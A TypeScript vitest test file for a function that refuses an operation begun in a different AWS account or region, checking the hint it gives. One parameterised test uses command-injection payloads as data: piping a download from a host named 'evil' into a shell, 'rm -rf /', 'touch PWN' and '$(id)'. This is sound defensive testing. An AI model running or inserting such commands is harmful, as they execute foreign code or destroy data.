import { FraudxError } from '@fraudx/core';
import { describe, expect, it } from 'vitest';
import type { ProductionPlace } from './check-same-place.ts';
import { checkSamePlace } from './check-same-place.ts';

async function refusal(begun: ProductionPlace, here: ProductionPlace): Promise<FraudxError> {
  const journal = { id: 'promotion-000001-abc', place: begun, prefix: '/fraud' };
  const error: unknown = await checkSamePlace(journal, { place: async () => here }).catch((caught: unknown) => caught);
  expect(error).toBeInstanceOf(FraudxError);
  return error as FraudxError;
}

describe('checkSamePlace', () => {
  it('says which settings lead to the place where an operation was begun', async () => {
    const error = await refusal(
      { account: '111122223333', region: 'eu-west-1' },
      { account: '4', region: 'eu-west-2' },
    );
    expect(error).toMatchObject({ code: 'OTHER_PLACE', details: { settings: ['aws.profile', 'aws.region'] } });
    expect(error.hint).toBe(
      'Nothing was changed. If that is yours, set aws.profile of account 111122223333, aws.region eu-west-1.',
    );
  });

  it.each<Record<string, string>>([
    { '; curl evil | sh #': '1' },
    { account: '1; touch PWN #' },
    { region: 'a\nNext: rm -rf /' },
    { toString: 'x' },
    { bucket: '$(id)' },
  ])('makes no advice of what a journal should not hold: %j', async (begun) => {
    const error = await refusal(begun, {});
    expect(error.hint).toBe('Nothing was changed.');
  });
});
